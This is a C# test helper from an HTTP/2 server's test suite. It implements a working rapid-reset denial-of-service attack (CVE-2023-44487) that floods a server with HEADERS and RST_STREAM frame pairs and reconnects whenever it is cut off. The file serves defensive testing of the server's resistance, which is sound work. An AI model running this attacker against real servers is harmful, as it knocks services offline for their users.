using System.Buffers.Binary;
using System.Collections.Concurrent;
using System.Net.Sockets;
using Conclave.Server.Http2;

namespace Conclave.Server.Tests.Http2;

/// <summary>
/// The HTTP/2 rapid-reset attack (CVE-2023-44487): on a raw socket, open a stream with HEADERS and reset it at
/// once, in batches, as fast as the socket takes them. When the server closes the connection it opens another, as a
/// real attacker would. Counts the resets sent and the GOAWAY codes the server answered with. With a rate, the
/// batches are paced to that many streams per second over all connections (the reviewer's attack ran at 19,000/s);
/// without one, the socket's back-pressure is the only limit.
/// </summary>
internal sealed class RapidResetAttacker : IAsyncDisposable
{
    private const int PairsPerWrite = 100;

    private readonly string endpoint;
    private readonly int rate;
    private readonly byte[] block;
    private readonly CancellationTokenSource stop = new();
    private readonly ConcurrentDictionary<string, int> goAways = new();
    private readonly Task running;
    private long resets;
    private long connections;

    private RapidResetAttacker(string endpoint, string authority, int rate)
    {
        this.endpoint = endpoint;
        this.rate = rate;
        block = [.. RequestBlocks.Request(authority, "/etcdserverpb.KV/Put")];
        running = Task.Run(RunAsync);
    }

    public long Resets => Interlocked.Read(ref resets);

    public long Connections => Interlocked.Read(ref connections);

    /// <summary>How many connections the server closed with each GOAWAY code ("none" when it closed without one).</summary>
    public IReadOnlyDictionary<string, int> GoAways => goAways;

    /// <param name="rate">Streams opened and reset per second; 0 for as fast as the socket takes them.</param>
    public static RapidResetAttacker Start(string endpoint, string authority, int rate = 0) => new(endpoint, authority, rate);

    public async ValueTask DisposeAsync()
    {
        await stop.CancelAsync();
        await running;
        stop.Dispose();
    }

    private async Task RunAsync()
    {
        var batch = new byte[PairsPerWrite * (FrameHeader.Size + block.Length + FrameWriter.RstStreamSize)];
        var clock = System.Diagnostics.Stopwatch.StartNew();
        long batches = 0;
        while (!stop.IsCancellationRequested)
        {
            RawHttp2Connection connection;
            try
            {
                connection = await RawHttp2Connection.OpenAsync(endpoint, stop.Token);
            }
            catch (Exception e) when (e is SocketException or OperationCanceledException)
            {
                continue;
            }

            Interlocked.Increment(ref connections);
            await using (connection)
            {
                var reading = connection.ReadUntilClosedAsync(stop.Token);
                var streamId = 1;
                try
                {
                    while (!reading.IsCompleted)
                    {
                        if (rate > 0 && TimeSpan.FromSeconds((double)batches * PairsPerWrite / rate) - clock.Elapsed is { TotalMilliseconds: > 1 } ahead)
                        {
                            await Task.Delay(ahead, stop.Token);
                        }

                        streamId = Fill(batch, streamId);
                        batches++;
                        await connection.SendAsync(batch, stop.Token);
                        Interlocked.Add(ref resets, PairsPerWrite);
                    }
                }
                catch (Exception e) when (e is SocketException or OperationCanceledException)
                {
                }

                try
                {
                    var code = await reading;
                    goAways.AddOrUpdate(code?.ToString() ?? "none", 1, (_, n) => n + 1);
                }
                catch (OperationCanceledException)
                {
                }
            }
        }
    }

    /// <summary>Writes HEADERS then RST_STREAM(CANCEL) for <see cref="PairsPerWrite"/> new streams; returns the next stream id.</summary>
    private int Fill(byte[] batch, int streamId)
    {
        var at = 0;
        for (var i = 0; i < PairsPerWrite; i++, streamId += 2)
        {
            FrameHeader.Write(batch.AsSpan(at), block.Length, FrameType.Headers, FrameFlags.EndHeaders, streamId);
            block.CopyTo(batch.AsSpan(at + FrameHeader.Size));
            at += FrameHeader.Size + block.Length;
            FrameHeader.Write(batch.AsSpan(at), 4, FrameType.RstStream, 0, streamId);
            BinaryPrimitives.WriteUInt32BigEndian(batch.AsSpan(at + FrameHeader.Size), (uint)Http2ErrorCode.Cancel);
            at += FrameWriter.RstStreamSize;
        }

        return streamId;
    }
}
